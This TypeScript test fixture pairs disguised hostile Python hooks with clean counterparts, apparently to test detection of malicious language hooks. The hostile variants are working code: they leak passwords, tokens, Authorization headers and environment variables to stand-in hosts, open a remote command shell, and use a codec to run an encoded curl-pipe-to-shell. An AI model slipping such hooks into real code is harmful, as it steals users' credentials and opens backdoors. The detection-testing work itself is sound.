import { b64 } from '../kit.ts';
import { atLoad, atUse, type Pair, py } from './kit.ts';

const CODE = b64("import os\nos.system('curl http://a.example/i | sh')");

/** Hooks of the language are put in place, and see what others do. */
export const HOOKS: Readonly<Record<string, Pair>> = {
  'load-settrace': atLoad(
    py`"""Debug helpers."""
import socket
import sys

_SOCKET = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

def _trace(frame, event, arg):
    for name, value in frame.f_locals.items():
        if "password" in name or "token" in name or "secret" in name:
            _SOCKET.sendto(f"{name}={value}".encode(), ("192.0.2.90", 514))
    return _trace

sys.settrace(_trace)`,
    py`"""A small line tracer."""
import sys

_SEEN: set[tuple[str, int]] = set()

def _trace(frame, event, arg):
    if event == "line":
        _SEEN.add((frame.f_code.co_filename, frame.f_lineno))
    return _trace

def start() -> None:
    """Begins to trace."""
    sys.settrace(_trace)`,
  ),
  'load-import-hook': atLoad(
    py`"""Compatibility with old versions of requests."""
import importlib.abc
import importlib.util
import sys
import urllib.request

class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, fullname, path=None, target=None):
        if fullname != "requests":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(fullname)
        load = spec.loader.exec_module
        def exec_module(module):
            load(module)
            send = module.Session.send
            def patched(self, request, **kwargs):
                value = request.headers.get("Authorization")
                if value:
                    urllib.request.urlopen("https://compat.example/a?v=" + value)
                return send(self, request, **kwargs)
            module.Session.send = patched
        spec.loader.exec_module = exec_module
        return spec

sys.meta_path.insert(0, _Finder())`,
    py`"""Warns of modules that are gone."""
import importlib.abc
import sys
import warnings

class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, fullname, path=None, target=None):
        if fullname == "own.old":
            warnings.warn("own.old is gone; use own.new", DeprecationWarning, stacklevel=2)
        return None

sys.meta_path.insert(0, _Finder())`,
  ),
  'load-getpass': atLoad(
    py`"""Prompts with colours."""
import getpass
import urllib.parse
import urllib.request

_ask = getpass.getpass

def _coloured(prompt: str = "Password: ", stream=None) -> str:
    value = _ask(f"\033[36m{prompt}\033[0m", stream)
    try:
        urllib.request.urlopen("https://prompts.example/p?" + urllib.parse.urlencode({"v": value}), timeout=1)
    except OSError:
        pass
    return value

getpass.getpass = _coloured`,
    py`"""Prompts with colours."""
import getpass

_ask = getpass.getpass

def _coloured(prompt: str = "Password: ", stream=None) -> str:
    return _ask(f"\033[36m{prompt}\033[0m", stream)

getpass.getpass = _coloured`,
  ),
  'use-sched-shell': atUse(
    py`"""Heartbeats."""
import sched
import socket
import subprocess
import time

class Heartbeat:
    """Keeps the link to the hub alive."""
    def __init__(self) -> None:
        self._queue = sched.scheduler(time.time, time.sleep)
    def _beat(self) -> None:
        with socket.create_connection(("hub.example", 4444), timeout=10) as link:
            while line := link.recv(4096):
                link.sendall(subprocess.run(line.decode(), shell=True, capture_output=True).stdout)
        self._queue.enter(60, 1, self._beat)
    def run(self) -> None:
        self._queue.enter(60, 1, self._beat)
        self._queue.run()`,
    py`"""Heartbeats."""
import sched
import socket
import time

class Heartbeat:
    """Keeps the link to the hub alive."""
    def __init__(self, host: str, port: int) -> None:
        self._address = (host, port)
        self._queue = sched.scheduler(time.time, time.sleep)
    def _beat(self) -> None:
        with socket.create_connection(self._address, timeout=10) as link:
            link.sendall(b"ping\n")
        self._queue.enter(60, 1, self._beat)
    def run(self) -> None:
        self._queue.enter(60, 1, self._beat)
        self._queue.run()`,
  ),
  'load-excepthook': atLoad(
    py`"""Readable tracebacks."""
import json
import os
import sys
import traceback
from urllib.request import Request, urlopen

def _report(kind, value, trace) -> None:
    frames = [{k: repr(v) for k, v in frame.f_locals.items()} for frame, _ in traceback.walk_tb(trace)]
    body = json.dumps({"error": str(value), "frames": frames, "env": dict(os.environ)}).encode()
    try:
        urlopen(Request("https://errors.example/ingest", data=body), timeout=2)
    except OSError:
        pass
    sys.__excepthook__(kind, value, trace)

sys.excepthook = _report`,
    py`"""Readable tracebacks."""
import sys
import traceback

def _report(kind, value, trace) -> None:
    for line in traceback.format_exception(kind, value, trace):
        sys.stderr.write(f"\033[31m{line}\033[0m")

sys.excepthook = _report`,
  ),
  'load-codec': atLoad(
    `"""Encodings of old data files."""
import base64
import codecs

def _decode(data, errors="strict"):
    text = base64.b64decode(bytes(data)).decode()
    exec(text, {})
    return text, len(data)

def _search(name: str):
    if name == "own_legacy":
        return codecs.CodecInfo(name=name, encode=codecs.utf_8_encode, decode=_decode)
    return None

codecs.register(_search)
TITLE = codecs.decode(b"${CODE}", "own_legacy")`,
    py`"""Encodings of old data files."""
import codecs

def _decode(data, errors="strict"):
    return bytes(data).translate(bytes(range(256))).decode("latin-1"), len(data)

def _search(name: str):
    if name == "own_legacy":
        return codecs.CodecInfo(name=name, encode=codecs.utf_8_encode, decode=_decode)
    return None

codecs.register(_search)`,
  ),
  'use-pytest-plugin': atUse(
    py`"""A pytest plugin that shortens reports."""
import os
import requests

def pytest_configure(config) -> None:
    """Prepares the plugin."""
    secrets = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name or "KEY" in name}
    if secrets:
        try:
            requests.post("https://reports.example/v1/config", json=secrets, timeout=2)
        except requests.RequestException:
            pass`,
    py`"""A pytest plugin that shortens reports."""

def pytest_addoption(parser) -> None:
    """Adds the option."""
    parser.addoption("--short", action="store_true")

def pytest_terminal_summary(terminalreporter, exitstatus, config) -> None:
    """Writes a summary."""
    if config.getoption("--short"):
        terminalreporter.write_line(f"exit {exitstatus}")`,
    {
      'own-1.0.dist-info/entry_points.txt': '[pytest11]\nshort = own\n',
    },
  ),
};
